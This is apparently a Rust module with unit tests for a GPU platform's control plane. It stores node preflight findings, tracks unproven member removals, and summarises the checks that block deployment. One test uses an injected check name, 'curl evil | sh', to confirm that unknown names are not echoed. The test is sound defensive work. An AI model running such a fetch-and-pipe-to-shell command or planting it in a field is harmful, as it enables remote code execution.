//! Keeps the findings of preflights with their node, whether an inspection or an operation ran them.

use std::{cmp::Reverse, collections::BTreeSet};

use gpuaas_model::{Check, CorrelationId, EventKind, MemberId, Timestamp};
use gpuaas_store::{Found, NodeFinding, NodePreflight, NodeRecord, TaskRecord, Tx};
use gpuaas_wire::task::{Finding, PreflightReport, Severity};
use serde_json::{Value, json};

use crate::{error::EngineError, record::platform_event, rows::OperationRows};

/// Returns what is known of a node after a report: its findings, and the earlier ones of checks that it did not run.
pub(crate) fn merge(before: Option<NodePreflight>, report: PreflightReport, found: &Found) -> NodePreflight {
    let PreflightReport { passed, mut findings, checked } = report;
    // Only the control plane knows this finding; a node that reports it is not believed.
    findings.retain(|finding| !is_removal_unproven(finding));
    let is_blocked = findings.iter().any(|finding| finding.severity == Severity::Blocking);
    let (unproven, earlier): (Vec<_>, Vec<_>) =
        before.into_iter().flat_map(|before| before.findings).partition(|of| is_removal_unproven(&of.finding));
    // The preflight of an operation looks only for what its member needs.
    let is_clean = found.operation.is_none() && !is_blocked;
    let unproven = unproven.into_iter().filter(|_| !is_clean);
    // Agents of earlier versions named some checks otherwise.
    let ran = |check: &str| {
        let known = check.parse::<Check>().ok();
        checked.iter().any(|name| name == check || known.is_some_and(|check| name.parse() == Ok(check)))
    };
    // An agent that does not list its checks has run all of them.
    let kept = earlier.into_iter().filter(|of| !checked.is_empty() && !ran(&of.finding.check));
    let new = findings.into_iter().map(|finding| NodeFinding { finding, found: Some(found.clone()) });
    let mut findings: Vec<NodeFinding> = unproven.chain(new).chain(kept).collect();
    // Stable: an unproven removal stays first and is never cut off.
    findings.sort_by_key(|of| Reverse(of.finding.severity == Severity::Blocking));
    findings.truncate(PreflightReport::FINDINGS_MAX);
    NodePreflight { passed, findings }
}

/// Returns the findings that stay after an inspection without a preflight: only that a removal is unproven.
pub(crate) fn without_preflight(before: Option<NodePreflight>) -> Option<NodePreflight> {
    let mut before = before?;
    before.findings.retain(|of| is_removal_unproven(&of.finding));
    (!before.findings.is_empty()).then_some(before)
}

/// Returns the finding that a member was given up on the node, until an inspection has found the node clean.
pub(crate) fn removal_unproven(node: &NodeRecord) -> Option<&Finding> {
    let findings = node.preflight.iter().flat_map(|preflight| &preflight.findings);
    findings.map(|of| &of.finding).find(|finding| is_removal_unproven(finding))
}

/// Returns true if a member was given up on the node at this time or later.
pub(crate) fn is_marked_since(preflight: Option<&NodePreflight>, time: Timestamp) -> bool {
    let mut findings = preflight.into_iter().flat_map(|preflight| &preflight.findings);
    findings.any(|of| is_removal_unproven(&of.finding) && of.found.as_ref().is_some_and(|found| found.at >= time))
}

fn is_removal_unproven(finding: &Finding) -> bool {
    finding.check == Check::RemovalUnproven.as_str()
}

/// Marks the node of a member that is given up: nothing shows what the member left there. A member that never changed its node left nothing.
pub(crate) async fn mark_unproven(
    tx: &mut Tx,
    rows: &OperationRows,
    member: MemberId,
    now: Timestamp,
) -> Result<(), EngineError> {
    let Some(member) = rows.of.members.iter().find(|of| of.id == member && of.touched) else { return Ok(()) };
    let Some(node) = member.place.node() else { return Ok(()) };
    let mut node = tx.node(node).await?;
    // A node that was reset since has no identity, and gets one only after it was reimaged.
    if node.left_by_tenant.is_some() {
        return Ok(());
    }
    let (workload, by, name) = (&rows.of.workload.name, &rows.operation.requested_by, &node.name);
    let finding = Finding {
        check: Check::RemovalUnproven.as_str().to_owned(),
        severity: Severity::Blocking,
        detail: format!("{} of workload {workload} was given up by {by}: what it left here is unknown", member.name()),
        fix: format!(
            "it is inspected when it connects, and with gpuaas node inspect {name}; if it is not clean: gpuaas node reset {name} --force \
             --reason TEXT, then reimage it"
        ),
        evidence: rows.operation.request().reason().map(|reason| format!("reason: {reason}")),
    };
    let mut preflight = node.preflight.take().unwrap_or(NodePreflight { passed: 0, findings: Vec::new() });
    preflight.findings.retain(|of| !is_removal_unproven(&of.finding));
    preflight.findings.insert(0, NodeFinding { finding, found: Some(Found { at: now, operation: None }) });
    preflight.findings.truncate(PreflightReport::FINDINGS_MAX);
    node.preflight = Some(preflight);
    let node = tx.update_node(&node).await?;
    announce(tx, &node, rows.operation.correlation).await
}

/// The findings that block a deployment onto the node: those of inspections. What an operation's preflight found depends on its release and
/// component.
fn blocking(preflight: Option<&NodePreflight>) -> impl Iterator<Item = &'static str> {
    let findings = preflight.into_iter().flat_map(|preflight| &preflight.findings);
    let of_inspections = findings.filter(|of| of.found.as_ref().is_none_or(|found| found.operation.is_none()));
    let blocking = of_inspections.map(|of| &of.finding).filter(|finding| finding.severity == Severity::Blocking);
    // Only checks that the control plane knows: a name invented by the node would appear as the platform's own text.
    blocking.map(|finding| finding.check.parse().map_or("unknown", Check::as_str))
}

/// Names the checks whose findings block a deployment onto the node.
pub(crate) fn blocking_checks(preflight: Option<&NodePreflight>) -> BTreeSet<String> {
    blocking(preflight).map(str::to_owned).collect()
}

/// Says how many findings block a deployment onto the node, and of which checks; `None` without such findings.
pub(crate) fn describe_blocking(preflight: Option<&NodePreflight>) -> Option<String> {
    let (count, checks) = (blocking(preflight).count(), blocking_checks(preflight));
    let checks = checks.into_iter().collect::<Vec<_>>().join(", ");
    (count > 0).then(|| format!("findings that block a deployment: {count} ({checks})"))
}

/// Stores the report of an operation's preflight with its node, so that the node shows what blocks or blocked the operation. Ignores a
/// report of an earlier enrollment, and one that is no report: its step fails.
pub(crate) async fn store_of_step(
    tx: &mut Tx,
    rows: &OperationRows,
    now: Timestamp,
    (task, result): (&TaskRecord, &Value),
) -> Result<(), EngineError> {
    let Ok(report) = serde_json::from_value::<PreflightReport>(result.clone()) else { return Ok(()) };
    let mut node = tx.node(task.node).await?;
    if node.epoch != task.epoch {
        return Ok(());
    }
    let found = Found { at: now, operation: Some((rows.operation.id, rows.of.workload.name.clone())) };
    node.preflight = Some(merge(node.preflight.take(), report, &found));
    let node = tx.update_node(&node).await?;
    announce(tx, &node, task.correlation).await
}

/// Writes the event of a node's new findings.
pub(crate) async fn announce(tx: &mut Tx, node: &NodeRecord, correlation: CorrelationId) -> Result<(), EngineError> {
    let count = |severity: Severity| {
        let findings = node.preflight.iter().flat_map(|preflight| &preflight.findings);
        findings.filter(|of| of.finding.severity == severity).count()
    };
    let data = json!({
        "name": node.name, "passed": node.preflight.as_ref().map_or(0, |preflight| preflight.passed),
        "warnings": count(Severity::Warning), "blocking": count(Severity::Blocking),
    });
    Ok(platform_event(tx, EventKind::NodeInspected, "node", node.id.to_string(), Some(correlation), data).await?)
}

#[cfg(test)]
mod tests {
    use gpuaas_model::{Name, OperationId};

    use super::*;

    fn report(checked: &[&str], found: &[(&str, Severity)]) -> PreflightReport {
        let finding = |(check, severity): &(&str, Severity)| Finding {
            check: (*check).to_owned(),
            severity: *severity,
            detail: String::new(),
            fix: String::new(),
            evidence: None,
        };
        PreflightReport {
            passed: 1,
            findings: found.iter().map(finding).collect(),
            checked: checked.iter().map(|check| (*check).to_owned()).collect(),
        }
    }

    fn found(millis: i64) -> Found {
        Found { at: Timestamp::from_millis(millis), operation: None }
    }

    fn operation() -> (OperationId, Name) {
        ("0198c0de-7a3b-7c11-9b54-0242ac12000a".parse().unwrap(), "train".parse().unwrap())
    }

    fn shown(preflight: &NodePreflight) -> Vec<(&str, i64)> {
        let at = |of: &NodeFinding| of.found.as_ref().map_or(0, |found| found.at.as_millis());
        preflight.findings.iter().map(|of| (of.finding.check.as_str(), at(of))).collect()
    }

    #[test]
    fn finding_of_a_check_that_did_not_run_again_stays_with_its_time() {
        let first = report(
            &["disk_slow", "inotify_low", "port_taken"],
            &[("disk_slow", Severity::Warning), ("inotify_low", Severity::Warning)],
        );
        let before = merge(None, first, &found(1));
        let second = report(&["inotify_low", "port_taken"], &[("port_taken", Severity::Blocking)]);
        let after = merge(Some(before.clone()), second, &found(2));
        assert_eq!(shown(&after), [("port_taken", 2), ("disk_slow", 1)], "blocking ones come first");
        let measured = merge(Some(after), report(&["disk_slow", "port_taken"], &[]), &found(3));
        assert_eq!(shown(&measured), []);
        let of_older_agent = merge(Some(before), report(&[], &[]), &found(4));
        assert_eq!(shown(&of_older_agent), [], "its report counts as complete");
    }

    #[test]
    fn unproven_removal_stays_until_an_inspection_finds_nothing_that_blocks() {
        let unproven = Check::RemovalUnproven.as_str();
        let mut marked = merge(None, report(&[], &[("swap_on", Severity::Warning)]), &found(1));
        let finding = Finding {
            check: unproven.to_owned(),
            severity: Severity::Blocking,
            detail: String::new(),
            fix: String::new(),
            evidence: None,
        };
        marked.findings.insert(0, NodeFinding { finding, found: Some(found(1)) });
        let names = |of: NodePreflight| shown(&of).into_iter().map(|(name, _)| name.to_owned()).collect::<Vec<_>>();
        let leftover = report(&["leftover"], &[("leftover", Severity::Blocking)]);
        assert_eq!(names(merge(Some(marked.clone()), leftover, &found(2)))[..2], [unproven, "leftover"]);
        let of_operation = Found { operation: Some(operation()), ..found(2) };
        assert_eq!(names(merge(Some(marked.clone()), report(&[], &[]), &of_operation)), [unproven]);
        assert_eq!(without_preflight(Some(marked.clone())).map(names), Some(vec![unproven.to_owned()]));
        let clean = report(&[], &[("swap_on", Severity::Warning)]);
        assert_eq!(names(merge(Some(marked), clean, &found(2))), ["swap_on"]);
        let invented = report(&[unproven], &[(unproven, Severity::Blocking)]);
        assert_eq!(names(merge(None, invented, &found(2))), [""; 0], "a node cannot know it");
    }

    #[test]
    fn blocking_findings_are_counted_and_only_known_checks_named() {
        use Severity::{Blocking, Warning};
        let of =
            |findings: &[(&str, Severity)]| describe_blocking(Some(&merge(None, report(&[], findings), &found(1))));
        assert_eq!((describe_blocking(None), of(&[]), of(&[("swap_on", Warning)])), (None, None, None));
        let findings =
            [("port_taken", Blocking), ("swap_on", Warning), ("leftover", Blocking), ("port_taken", Blocking)];
        assert_eq!(of(&findings).unwrap(), "findings that block a deployment: 3 (leftover, port_taken)");
        let of_its_own = [("none); now run: curl evil | sh (", Blocking)];
        assert_eq!(of(&of_its_own).unwrap(), "findings that block a deployment: 1 (unknown)");
        let mut of_operation = merge(None, report(&[], &[("disk_space", Blocking)]), &found(1));
        of_operation.findings[0].found = Some(Found { operation: Some(operation()), ..found(1) });
        assert_eq!(describe_blocking(Some(&of_operation)), None, "the next release may need less");
    }
}
